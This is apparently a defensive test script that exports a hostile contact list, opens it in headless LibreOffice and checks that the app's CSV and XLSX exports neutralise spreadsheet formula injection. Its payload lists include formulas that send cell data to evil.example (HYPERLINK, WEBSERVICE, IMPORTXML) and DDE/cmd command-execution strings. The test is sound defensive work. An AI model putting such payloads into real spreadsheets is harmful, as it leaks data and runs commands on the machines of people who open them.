// Proof of FIL-6 in a real spreadsheet program: a hostile contact list is exported as the app does it, opened in LibreOffice
// without a window, and searched for formulas. The same list exported with the switch off must bring some, or nothing was
// proved. Says "skipped" where LibreOffice can't be had.
//   node scripts/formula-safe.mjs [--keep FOLDER]
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { load, readArgs } from './quality/load.mjs';

const MS = 120_000;

/** soffice, installed when that is possible; null and the reason where it is not. */
function findOffice() {
	const found = () => ['soffice', 'libreoffice'].find((name) => spawnSync(name, ['--version'], { timeout: MS }).status === 0) ?? null;
	const there = found();
	if (there) return { office: there, reason: '' };
	if (process.getuid?.() !== 0) return { office: null, reason: 'LibreOffice is not installed, and only root could install it' };
	const got = spawnSync('apt-get', ['install', '-y', '--no-install-recommends', 'libreoffice-calc-nogui'], {
		timeout: 10 * MS,
		env: { ...process.env, DEBIAN_FRONTEND: 'noninteractive' }
	});
	return {
		office: found(),
		reason: got.error
			? got.error.message
			: `apt-get could not install libreoffice-calc-nogui: ${String(got.stderr).trim().split('\n').at(-1)}`
	};
}

const STARTS = ['=', '+', '-', '@', ' =', '\t=', '\r=', '\n=', '\u00a0=', '＝', '＋', '－', '＠', '==', '+=', '-+', "'=", '=\t', '\0='];
const FORMULAS = [
	'1+1',
	'A1',
	'SUM(A1:A9)',
	'HYPERLINK("http://evil.example/?x="&A1,"Click")',
	"cmd|' /C calc'!A0",
	'WEBSERVICE("http://evil.example/"&A2)',
	'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
	'"text"',
	'DDE("cmd","/C calc","x")',
	'1'
];
const INSIDE = [
	'x;=1+1;y',
	'x\n=1+1',
	'a\t=A1',
	'x;=HYPERLINK("http://evil.example","y")',
	"a;-1+cmd|' /C calc'!A0",
	'x;@SUM(A1)',
	'say "=1+1"',
	'"=1+1"',
	'a,=1+1',
	'a","=1+1'
];
const HARMLESS = [
	'+41 44 668 18 00',
	'-5',
	'+1 212-555-0142',
	'(212) 555-0142',
	'O’Neill',
	'山田 太郎',
	'a=b',
	'x@y.com',
	'1-2',
	'- call back\n- send the offer',
	'two  spaces',
	' edge ',
	'tab\there',
	'007',
	'1.23E+10',
	'2026-03-05',
	'TRUE',
	'#N/A',
	"'quoted"
];

/** Every start with every formula in every column of a contact, among harmless values. */
function hostileContacts() {
	const fields = ['firstName', 'lastName', 'company', 'jobTitle', 'notes', 'city', 'tags', 'custom:booth'];
	const texts = [...STARTS.flatMap((s) => FORMULAS.map((f) => s + f)), ...INSIDE, ...HARMLESS];
	return texts.map((text, i) => {
		const values = Object.create(null);
		values.email = `p${i}@example.com`;
		fields.forEach((field, k) => {
			values[field] = k === i % fields.length ? HARMLESS[i % HARMLESS.length] : text;
		});
		values.phone1 = '+41446681800';
		return { externalId: `mu-${i}`, values, score: i % 101, tier: 'A', keyFactors: ['Senior Role'] };
	});
}

const decode = (xml) =>
	xml.replace(/&(?:lt|gt|amp|quot|apos|#(\d+)|#x([0-9a-f]+));/gi, (m, d, x) =>
		d
			? String.fromCodePoint(Number(d))
			: x
				? String.fromCodePoint(parseInt(x, 16))
				: { '&lt;': '<', '&gt;': '>', '&amp;': '&', '&quot;': '"', '&apos;': "'" }[m.toLowerCase()]
	);

/** Cells of the first sheet of a flat ODF file: text as shown, and the formula where there is one. */
function cellsOf(fods) {
	const table = /<table:table [\s\S]*?<\/table:table>/.exec(fods)?.[0] ?? '';
	const rows = [];
	for (const [, attributes, inner = ''] of table.matchAll(/<table:table-row([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-row>)/g)) {
		const row = [];
		for (const [, cell, body = ''] of inner.matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)) {
			const text = [...body.matchAll(/<text:p[^>]*?(?:\/>|>([\s\S]*?)<\/text:p>)/g)]
				.map(([, p = '']) =>
					decode(
						p
							.replace(/<text:s(?: text:c="(\d+)")?\/>/g, (_, n) => ' '.repeat(Number(n ?? 1)))
							.replace(/<text:tab\/>/g, '\t')
							.replace(/<text:line-break\/>/g, '\n')
							.replace(/<[^>]+>/g, '')
					)
				)
				.join('\n');
			const formula = /table:formula="([^"]*)"/.exec(cell)?.[1];
			const times = Number(/table:number-columns-repeated="(\d+)"/.exec(cell)?.[1] ?? 1);
			for (let n = 0; n < Math.min(times, 50); n++) row.push({ text, formula: formula === undefined ? null : decode(formula) });
		}
		const times = Number(/table:number-rows-repeated="(\d+)"/.exec(attributes)?.[1] ?? 1);
		if (times < 1000) for (let n = 0; n < times; n++) rows.push(row);
	}
	return rows;
}

/** A spreadsheet keeps no NUL and calls every line break one. */
const asShown = (text) =>
	String(text ?? '')
		.replaceAll('\0', '')
		.replace(/\r\n?/g, '\n');

const { options } = readArgs(process.argv.slice(2), ['help']);
const { office, reason } = findOffice();
if (!office) {
	console.log(`skipped: ${reason}`);
	process.exit(0);
}
const folder = options.keep ?? mkdtempSync(join(tmpdir(), 'muster-formula-'));
mkdirSync(folder, { recursive: true });
const open = (name, filter) => {
	const ran = spawnSync(
		office,
		[
			`-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`,
			'--headless',
			...(filter ? [`--infilter=${filter}`] : []),
			'--convert-to',
			'fods',
			'--outdir',
			join(folder, 'opened'),
			join(folder, name)
		],
		{ timeout: MS, encoding: 'utf8' }
	);
	const out = join(folder, 'opened', `${name.slice(0, name.lastIndexOf('.'))}.fods`);
	if (ran.status !== 0 || !existsSync(out))
		throw new Error(`LibreOffice could not open ${name}: ${ran.stderr || ran.error?.message || ran.stdout}`);
	return cellsOf(readFileSync(out, 'utf8'));
};

let bad = 0;
const say = (good, text) => {
	if (!good) bad++;
	console.log(`${good ? 'ok ' : 'BAD'} ${text}`);
};
try {
	const { exportContacts } = await load('workers/export/contacts.ts');
	const { neutralise } = await load('workers/export/cells.ts');
	const contacts = hostileContacts();
	const custom = [{ id: 'custom:booth', label: 'Booth', type: 'text' }];
	const made = async (name, format, spreadsheetSafe) => {
		const file = await exportContacts(contacts, format, { spreadsheetSafe, bom: true, report: false, customFields: custom });
		writeFileSync(join(folder, name), Buffer.from(await file.blob.arrayBuffer()));
		return file;
	};
	const safe = await made('safe.csv', 'csv', true);
	await made('unsafe.csv', 'csv', false);
	await made('book.xlsx', 'xlsx', true);

	const formulas = (rows) => rows.flat().filter((c) => c.formula !== null);
	/** Expected texts by label, in rows. */
	const LABELS = {
		firstName: 'First Name',
		lastName: 'Last Name',
		company: 'Company',
		jobTitle: 'Job Title',
		notes: 'Notes',
		city: 'City',
		tags: 'Tags',
		'custom:booth': 'Booth'
	};
	const lost = (rows, write) => {
		const header = rows[0].map((c) => c.text);
		const missing = [];
		contacts.forEach(({ values }, i) => {
			for (const [field, label] of Object.entries(LABELS)) {
				const shown = asShown(rows[i + 1]?.[header.indexOf(label)]?.text);
				const expected = asShown(write(values[field]));
				if (shown !== expected) missing.push({ row: i + 2, label, expected, shown });
			}
		});
		return missing;
	};
	const COMMA = 'CSV:44,34,76,1,';
	const asText = Array.from({ length: 30 }, (_, i) => `${i + 1}/2`).join('/');
	const first = (list) => (list.length > 0 ? `, first: ${JSON.stringify(list[0])}` : '');

	console.log(`${contacts.length} hostile contacts, ${safe.neutralised} cells neutralised`);
	const safeRows = open('safe.csv', COMMA);
	say(
		formulas(safeRows).length === 0 && safeRows.length === contacts.length + 1,
		`CSV: ${formulas(safeRows).length} formulas in ${safeRows.length} rows${first(formulas(safeRows))}`
	);
	const textRows = open('safe.csv', `${COMMA}${asText}`);
	const gone = lost(textRows, neutralise);
	say(gone.length === 0, `CSV: ${gone.length} texts lost or changed but for the apostrophe${first(gone)}`);
	const OTHER = 'CSV:59/9,34,76,1,';
	const otherSeparator = formulas(open('safe.csv', OTHER));
	say(
		otherSeparator.length === 0,
		`CSV, opened with semicolon and tab as separators: ${otherSeparator.length} formulas${first(otherSeparator)}`
	);
	const bookRows = open('book.xlsx');
	say(
		formulas(bookRows).length === 0,
		`XLSX: ${formulas(bookRows).length} formulas in ${bookRows.length} rows${first(formulas(bookRows))}`
	);
	const goneThere = lost(bookRows, (text) => text);
	say(goneThere.length === 0, `XLSX: ${goneThere.length} texts lost or changed${first(goneThere)}`);
	const unsafe = formulas(open('unsafe.csv', COMMA));
	say(unsafe.length > 50, `the same list with the switch off: ${unsafe.length} formulas, like ${unsafe[0]?.formula}`);
	const unsafeOther = formulas(open('unsafe.csv', OTHER));
	say(unsafeOther.length > 10, `and with semicolon and tab as separators: ${unsafeOther.length} formulas`);
} finally {
	if (!options.keep) rmSync(folder, { recursive: true, force: true });
}
console.log(bad === 0 ? 'proved: no cell runs, no text is lost' : `${bad} of the checks failed`);
process.exit(bad === 0 ? 0 : 1);
